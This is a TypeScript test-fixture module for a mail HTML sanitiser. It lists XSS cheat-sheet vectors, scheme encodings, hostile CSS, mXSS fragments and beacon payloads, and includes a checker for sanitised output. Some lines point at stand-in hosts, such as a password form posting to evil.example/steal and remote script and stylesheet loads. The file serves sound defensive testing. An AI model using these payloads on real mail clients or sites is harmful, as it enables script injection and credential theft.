import type { ChildNode, Element } from 'domhandler';
import { parseDocument } from 'htmlparser2';
import { MAIL_ATTRIBUTES, MAIL_STYLES, MAIL_TAGS } from '../../src/mail/display.js';

/**
 * Hostile mail HTML, generated: the XSS cheat-sheet classes as vectors, each placed on or inside every carrier
 * tag, with each encoding variant of its scheme or handler name. Pure (no I/O), so the unit tier
 * (src/mail/display.test.ts) and the suites against real servers (test/mail-display.test.ts, the browser
 * journeys) share one list.
 */

/** Ways to write the scheme "javascript:" that browsers still read as it (entities, controls, case, spaces). */
export const SCHEME_ENCODINGS: readonly { name: string; encode: (scheme: string) => string }[] = [
  { name: 'plain', encode: (s) => `${s}:` },
  { name: 'mixed case', encode: (s) => `${mixCase(s)}:` },
  { name: 'decimal entity', encode: (s) => `&#${s.charCodeAt(0)};${s.slice(1)}:` },
  { name: 'padded decimal entity', encode: (s) => `&#0000${s.charCodeAt(0)}${s.slice(1)}&#58;` },
  { name: 'hex entity', encode: (s) => `&#x${s.charCodeAt(0).toString(16)};${s.slice(1)}&#x3A;` },
  { name: 'all entities', encode: (s) => `${[...s].map((c) => `&#${c.charCodeAt(0)};`).join('')}&colon;` },
  { name: 'tab inside', encode: (s) => `${s.slice(0, 4)}&#x09;${s.slice(4)}:` },
  { name: 'newline inside', encode: (s) => `${s.slice(0, 4)}&#x0A;${s.slice(4)}:` },
  { name: 'CR inside', encode: (s) => `${s.slice(0, 4)}&#x0D;${s.slice(4)}:` },
  { name: 'named tab inside', encode: (s) => `${s.slice(0, 4)}&Tab;${s.slice(4)}&NewLine;:` },
  { name: 'raw tab inside', encode: (s) => `${s.slice(0, 4)}\t${s.slice(4)}:` },
  { name: 'leading spaces', encode: (s) => `   ${s}:` },
  { name: 'leading control', encode: (s) => `&#x01;&#x1F;${s}:` },
  { name: 'leading raw control', encode: (s) => `\u0001\u0008 ${s}:` },
  { name: 'leading NUL entity', encode: (s) => `&#0;${s}:` },
  { name: 'soft hyphen inside', encode: (s) => `${s.slice(0, 4)}&shy;${s.slice(4)}:` },
];

/** The hostile schemes, each with what follows the colon. */
export const HOSTILE_URLS: readonly { scheme: string; rest: string }[] = [
  { scheme: 'javascript', rest: 'alert(1)' },
  { scheme: 'javascript', rest: '//%0aalert(1)' },
  { scheme: 'vbscript', rest: 'msgbox(1)' },
  { scheme: 'data', rest: 'text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==' },
  { scheme: 'data', rest: 'text/html,<script>alert(1)</script>' },
  { scheme: 'data', rest: 'image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+' },
];

/** Event handler attribute names, as written. */
export const HANDLERS: readonly string[] = [
  'onerror',
  'onload',
  'OnErRoR',
  'onmouseover',
  'onfocus',
  'onanimationstart',
  'onpointerenter',
  'onbegin',
];

/** Ways an attribute is written after a tag name (quotes, none, a slash instead of a space). */
export const ATTRIBUTE_SHAPES: readonly { name: string; write: (attr: string, value: string) => string }[] = [
  { name: 'double quotes', write: (a, v) => ` ${a}="${v}"` },
  { name: 'single quotes', write: (a, v) => ` ${a}='${v}'` },
  { name: 'unquoted', write: (a, v) => ` ${a}=${v.replace(/\s/g, '')}` },
  { name: 'slash separator', write: (a, v) => `/${a}="${v}"` },
];

/** CSS that escapes its box, loads, or runs. */
export const HOSTILE_STYLES: readonly string[] = [
  'position:fixed;top:0;left:0;width:100%;height:100%;z-index:99999',
  'position:absolute;top:-500px',
  'margin-top:-999px',
  'margin:-20px 0 0 0',
  'z-index:2147483647',
  'width:expression(alert(1))',
  'color:expression(alert(1))',
  'background:url(javascript:alert(1))',
  'background-image:url("https://tracker.example/p.gif")',
  'background-color:url(x)',
  'list-style-image:url(javascript:alert(1))',
  'behavior:url(x.htc)',
  '-moz-binding:url(http://x/xss.xml#xss)',
  'color:\\65xpression(alert(1))',
  'font-family:"a";background:url(x)',
  'color:red;/**/position:fixed',
  'content:"\\"";background:url(x)',
  'transform:translate(-100px)',
  'color:var(--x)',
  'color:rgb(1,2,3);background-color:env(x)',
];

/** Whole elements that must not survive (their content may be mail text, but they carry none). */
export const HOSTILE_FRAGMENTS: readonly { name: string; html: string }[] = [
  { name: 'script', html: '<script>alert(1)</script>' },
  { name: 'script src', html: '<script src="https://evil.example/x.js"></script>' },
  { name: 'uppercase script', html: '<SCRIPT>alert(1)</SCRIPT>' },
  { name: 'script in attribute-less svg', html: '<svg><script>alert(1)</script></svg>' },
  { name: 'svg onload', html: '<svg onload=alert(1)><circle r=4 /></svg>' },
  {
    name: 'svg foreignObject',
    html: '<svg><foreignObject><iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe><img src=x onerror=alert(1)></foreignObject></svg>',
  },
  {
    name: 'svg animate href',
    html: '<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>',
  },
  {
    name: 'svg use',
    html: '<svg><use href="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+#x"/></svg>',
  },
  {
    name: 'math',
    html: '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
  },
  { name: 'iframe srcdoc', html: '<iframe srcdoc="<script>alert(1)</script>"></iframe>' },
  { name: 'iframe src', html: '<iframe src="javascript:alert(1)"></iframe>' },
  { name: 'frameset', html: '<frameset><frame src="javascript:alert(1)"></frameset>' },
  { name: 'object', html: '<object data="javascript:alert(1)"></object>' },
  { name: 'embed', html: '<embed src="data:text/html,<script>alert(1)</script>">' },
  { name: 'applet', html: '<applet code="x"></applet>' },
  { name: 'meta refresh', html: '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">' },
  { name: 'meta refresh remote', html: '<meta http-equiv=refresh content="0; url=https://evil.example/">' },
  { name: 'base href', html: '<base href="https://evil.example/">' },
  { name: 'base target', html: '<base target="_top">' },
  { name: 'link stylesheet', html: '<link rel=stylesheet href="https://evil.example/x.css">' },
  { name: 'link import', html: '<link rel=import href="https://evil.example/x.html">' },
  {
    name: 'form action',
    html: '<form action="https://evil.example/steal"><input name=p type=password><button>Go</button></form>',
  },
  { name: 'button formaction', html: '<button formaction="javascript:alert(1)">x</button>' },
  { name: 'input autofocus', html: '<input autofocus onfocus=alert(1)>' },
  { name: 'textarea', html: '<textarea></textarea><script>alert(1)</script>' },
  { name: 'select', html: '<select><option><script>alert(1)</script></option></select>' },
  { name: 'style import', html: '<style>@import "https://evil.example/x.css";</style>' },
  {
    name: 'style overlay',
    html: '<style>div{position:fixed;top:0;left:0;width:100%;height:100%;z-index:999}</style>',
  },
  { name: 'style expression', html: '<style>p{width:expression(alert(1))}</style>' },
  { name: 'style behavior', html: '<style>body{behavior:url(x.htc);-moz-binding:url(x.xml#x)}</style>' },
  { name: 'img onerror', html: '<img src=x onerror=alert(1)>' },
  { name: 'img onerror no quotes', html: '<img src=x onerror=alert(1)//>' },
  { name: 'img srcset', html: '<img srcset="javascript:alert(1) 1x" src="cid:none">' },
  { name: 'image tag', html: '<image src=x onerror=alert(1)>' },
  { name: 'a javascript', html: '<a href="javascript:alert(1)">click</a>' },
  { name: 'a spaces javascript', html: '<a href="  javascript:alert(1)">click</a>' },
  {
    name: 'a data html',
    html: '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
  },
  { name: 'a xlink', html: '<a xlink:href="javascript:alert(1)">click</a>' },
  { name: 'a formaction', html: '<a href="https://ok.example/" formaction="javascript:alert(1)">ok</a>' },
  { name: 'area', html: '<map name=m><area href="javascript:alert(1)" shape=rect coords=0,0,9,9></map>' },
  { name: 'comment hiding script', html: '<!--<script>-->alert(1)<!--</script>-->' },
  { name: 'unclosed comment', html: '<!-- <script>alert(1)</script>' },
  { name: 'conditional comment', html: '<!--[if IE]><script>alert(1)</script><![endif]-->' },
  { name: 'bogus comment', html: '<? <img src=x onerror=alert(1)> ?>' },
  { name: 'cdata', html: '<![CDATA[<script>alert(1)</script>]]>' },
  { name: 'unclosed tag', html: '<img src=x onerror=alert(1) ' },
  { name: 'unclosed script', html: '<script>alert(1)' },
  {
    name: 'noscript title',
    html: '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  },
  {
    name: 'noscript style',
    html: '<noscript><style></noscript><img src=x onerror=alert(1)></style></noscript>',
  },
  { name: 'xmp', html: '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>' },
  { name: 'plaintext', html: '<plaintext><img src=x onerror=alert(1)>' },
  { name: 'template', html: '<template><img src=x onerror=alert(1)></template>' },
  {
    name: 'mXSS math style',
    html: '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  },
  { name: 'mXSS svg p style', html: '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">' },
  {
    name: 'mXSS form nesting',
    html: '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  },
  { name: 'mXSS backtick', html: '<img src="x` `<script>alert(1)</script>"` `>' },
  { name: 'mXSS title', html: '<title><img src=x onerror=alert(1)></title>' },
  { name: 'mXSS textarea attr', html: '<p title="</textarea><img src=x onerror=alert(1)>">x</p>' },
  { name: 'nested script split', html: '<scr<script>ipt>alert(1)</scr</script>ipt>' },
  { name: 'null in tag', html: '<scr\u0000ipt>alert(1)</script>' },
  { name: 'details ontoggle', html: '<details open ontoggle=alert(1)>x</details>' },
  { name: 'video', html: '<video><source onerror=alert(1)></video>' },
  { name: 'body onload', html: '<body onload=alert(1)>' },
  { name: 'html manifest', html: '<html manifest="https://evil.example/m">' },
  { name: 'marquee', html: '<marquee onstart=alert(1)>x</marquee>' },
  { name: 'isindex', html: '<isindex action=javascript:alert(1) type=image>' },
  { name: 'keygen', html: '<keygen autofocus onfocus=alert(1)>' },
];

/** The tags mail HTML may keep (src/mail/display.ts MAIL_TAGS), as carriers of the vectors. */
export const VOID_TAGS = new Set(['br', 'col', 'hr', 'img', 'wbr']);

/** A carrier tag with attributes written into its start tag and content inside it. */
export function carry(tag: string, attributes: string, content = 'text'): string {
  return VOID_TAGS.has(tag) ? `<${tag}${attributes}>${content}` : `<${tag}${attributes}>${content}</${tag}>`;
}

function mixCase(s: string): string {
  return [...s].map((c, i) => (i % 2 === 0 ? c.toUpperCase() : c)).join('');
}

/** A hostile mail for the suites against real servers: one of each class, with a cid image and a remote one. */
export function hostileMailHtml(cid: string): string {
  return [
    '<p>Hello <b>support</b>, see <a href="https://example.test/page">our page</a>.</p>',
    `<p><img src="cid:${cid}" alt="logo" onerror="alert('cid')"></p>`,
    '<p><img src="https://tracker.example/pixel.gif" alt="pixel"></p>',
    ...HOSTILE_FRAGMENTS.map((f) => `<div>${f.html}</div>`),
    ...HOSTILE_STYLES.map((s) => `<div style="${s.replace(/"/g, '&quot;')}">styled</div>`),
    ...SCHEME_ENCODINGS.map((e) => `<a href="${e.encode('javascript')}alert(1)">${e.name}</a>`),
  ].join('\n');
}

const FORBIDDEN = new Set([
  'script',
  'style',
  'iframe',
  'object',
  'embed',
  'base',
  'meta',
  'form',
  'link',
  'svg',
  'math',
]);
const SAFE_DATA_IMAGE = /^data:image\/(?:png|gif|jpeg|jpg|webp);base64,[a-z0-9+/=\s]+$/i;
const HOSTILE_CSS = /url\s*\(|expression|\\|behavior|binding|var\s*\(|env\s*\(|@import|javascript/i;

/** The scheme a browser reads, computed independently of display.ts: controls, whitespace, format chars out. */
function scheme(url: string): string | null {
  const s = url.replace(/[\s\p{Cc}\p{Cf}\p{Zl}\p{Zp}]+/gu, '').toLowerCase();
  if (s.startsWith('//')) return '//';
  return /^([a-z][a-z0-9+.-]*):/.exec(s)?.[1] ?? null;
}

/**
 * Every way sanitised mail HTML breaks the rules, read from its parsed form (htmlparser2, not the version inside
 * sanitize-html), as a browser would build it; [] when safe. Inline images must start with `inlinePrefix`.
 */
export function htmlSafetyProblems(
  html: string,
  o: { remoteImages: boolean; inlinePrefix: string },
): string[] {
  const { remoteImages } = o;
  const found: string[] = [];
  const walk = (nodes: ChildNode[]) => {
    for (const n of nodes) {
      if (n.type === 'tag' || n.type === 'script' || n.type === 'style') {
        const el = n as Element;
        const tag = el.name.toLowerCase();
        if (FORBIDDEN.has(tag)) found.push(`forbidden element <${tag}>`);
        if (!MAIL_TAGS.includes(tag)) found.push(`element <${tag}> not in the allow-list`);
        const allowed = new Set([...(MAIL_ATTRIBUTES['*'] ?? []), ...(MAIL_ATTRIBUTES[tag] ?? [])]);
        for (const [name, value] of Object.entries(el.attribs)) {
          const a = name.toLowerCase();
          if (a.startsWith('on')) found.push(`handler ${a} on <${tag}>`);
          if (!allowed.has(a)) found.push(`attribute ${a} not allowed on <${tag}>`);
          if (a === 'href') {
            const s = scheme(value);
            if (s !== 'http' && s !== 'https' && s !== 'mailto') found.push(`href scheme ${s} in ${value}`);
          }
          if (a === 'src') {
            const s = scheme(value);
            const ok =
              value.startsWith(o.inlinePrefix) ||
              SAFE_DATA_IMAGE.test(value) ||
              (remoteImages && (s === 'http' || s === 'https'));
            if (!ok) found.push(`img src ${value}`);
          }
          if (a === 'style') found.push(...styleProblems(value));
        }
        if (tag === 'a' && (el.attribs.target !== '_blank' || el.attribs.rel !== 'noopener noreferrer'))
          found.push(`link without target/rel: ${JSON.stringify(el.attribs)}`);
        walk(el.children);
      } else if (n.type === 'root' || 'children' in n) {
        walk((n as Element).children ?? []);
      }
    }
  };
  walk(parseDocument(html, { decodeEntities: true, lowerCaseTags: true }).children);
  return found;
}

function styleProblems(style: string): string[] {
  const found: string[] = [];
  for (const decl of style.split(';')) {
    if (decl.trim() === '') continue;
    const colon = decl.indexOf(':');
    const prop = decl.slice(0, colon).trim().toLowerCase();
    const value = decl.slice(colon + 1);
    if (colon < 0 || !(prop in MAIL_STYLES)) found.push(`css property ${prop || decl}`);
    if (HOSTILE_CSS.test(value)) found.push(`css value ${prop}:${value}`);
    if (prop.startsWith('margin') && value.includes('-')) found.push(`negative margin ${value}`);
  }
  return found;
}

/**
 * Vectors that report back when they work: each, if a script of it ran or the browser fetched what it names,
 * calls alert, sets a global, or requests `${beacon}/<vector name>` (a listener of the test counts the hits). For
 * the browser journeys, where "nothing ran" must be observed, not inferred from the sanitised HTML.
 */
export function beaconVectors(beacon: string): { name: string; html: string }[] {
  const hit = (name: string) => `${beacon}/${name}`;
  const js = (name: string) =>
    `top.pwned=1;window.pwned=1;alert('${name}');fetch('${hit(name)}');new Image().src='${hit(name)}'`;
  const b64 = (html: string) => Buffer.from(html).toString('base64');
  return [
    { name: 'script', html: `<script>${js('script')}</script>` },
    { name: 'script-src', html: `<script src="${hit('script-src')}"></script>` },
    { name: 'img-onerror', html: `<img src="x" onerror="${js('img-onerror')}">` },
    {
      name: 'img-onerror-entities',
      html: `<img src=x onerror="&#97;lert('img-onerror-entities');fetch('${hit('img-onerror-entities')}')">`,
    },
    { name: 'body-onload', html: `<body onload="${js('body-onload')}">` },
    { name: 'svg-onload', html: `<svg onload="${js('svg-onload')}"><circle r="4"/></svg>` },
    { name: 'svg-script', html: `<svg><script>${js('svg-script')}</script></svg>` },
    { name: 'svg-image', html: `<svg><image href="${hit('svg-image')}"/></svg>` },
    {
      name: 'iframe-srcdoc',
      html: `<iframe srcdoc="<script>${js('iframe-srcdoc').replace(/'/g, '&apos;')}</script>"></iframe>`,
    },
    { name: 'iframe-src', html: `<iframe src="${hit('iframe-src')}"></iframe>` },
    { name: 'iframe-javascript', html: `<iframe src="javascript:${js('iframe-javascript')}"></iframe>` },
    { name: 'object', html: `<object data="${hit('object')}"></object>` },
    { name: 'embed', html: `<embed src="${hit('embed')}">` },
    { name: 'meta-refresh', html: `<meta http-equiv="refresh" content="0;url=${hit('meta-refresh')}">` },
    {
      name: 'meta-refresh-javascript',
      html: `<meta http-equiv="refresh" content="0;url=javascript:alert('meta')">`,
    },
    {
      name: 'meta-refresh-data',
      html: `<meta http-equiv="refresh" content="0;url=data:text/html;base64,${b64(`<script>${js('meta-data')}</script>`)}">`,
    },
    { name: 'link-stylesheet', html: `<link rel="stylesheet" href="${hit('link-stylesheet')}">` },
    { name: 'link-prefetch', html: `<link rel="prefetch" href="${hit('link-prefetch')}">` },
    { name: 'style-import', html: `<style>@import url("${hit('style-import')}");</style>` },
    { name: 'style-background', html: `<style>body{background:url("${hit('style-background')}")}</style>` },
    { name: 'style-attr-url', html: `<div style="background-image:url('${hit('style-attr-url')}')">x</div>` },
    {
      name: 'style-attr-escaped-url',
      html: `<div style="background:\\75rl(${hit('style-attr-escaped-url')})">x</div>`,
    },
    { name: 'css-expression', html: `<div style="width:expression(alert('css-expression'))">x</div>` },
    {
      name: 'css-javascript-url',
      html: `<div style="background:url(javascript:alert('css-javascript-url'))">x</div>`,
    },
    { name: 'remote-img', html: `<img src="${hit('remote-img')}">` },
    { name: 'img-srcset', html: `<img srcset="${hit('img-srcset')} 1x" src="x">` },
    {
      name: 'background-attr',
      html: `<table background="${hit('background-attr')}"><tr><td>x</td></tr></table>`,
    },
    { name: 'video-poster', html: `<video poster="${hit('video-poster')}"></video>` },
    { name: 'audio-src', html: `<audio src="${hit('audio-src')}" autoplay></audio>` },
    { name: 'input-image', html: `<input type="image" src="${hit('input-image')}">` },
    { name: 'base-href', html: `<base href="${beacon}/base/"><img src="relative.gif">` },
    {
      name: 'form-autosubmit',
      html: `<form action="${hit('form')}"><input autofocus onfocus="this.form.submit()"></form>`,
    },
    { name: 'details-ontoggle', html: `<details open ontoggle="${js('details-ontoggle')}">x</details>` },
    { name: 'autofocus-onfocus', html: `<input autofocus onfocus="${js('autofocus-onfocus')}">` },
    { name: 'marquee', html: `<marquee onstart="${js('marquee')}">x</marquee>` },
    {
      name: 'mxss-noscript',
      html: `<noscript><p title="</noscript><img src=x onerror=${js('mxss-noscript').replace(/\s/g, '')}>"></noscript>`,
    },
    {
      name: 'mxss-svg-style',
      html: `<svg></p><style><a id="</style><img src=1 onerror=alert('mxss-svg-style')>">`,
    },
    {
      name: 'entity-javascript-link',
      html: `<a href="&#106;avascript:alert('entity-link')" id="entity-link">entity link</a>`,
    },
    { name: 'tab-javascript-link', html: `<a href="java&#x09;script:alert('tab-link')">tab link</a>` },
    {
      name: 'data-html-link',
      html: `<a href="data:text/html;base64,${b64('<script>alert(1)</script>')}">data link</a>`,
    },
  ];
}
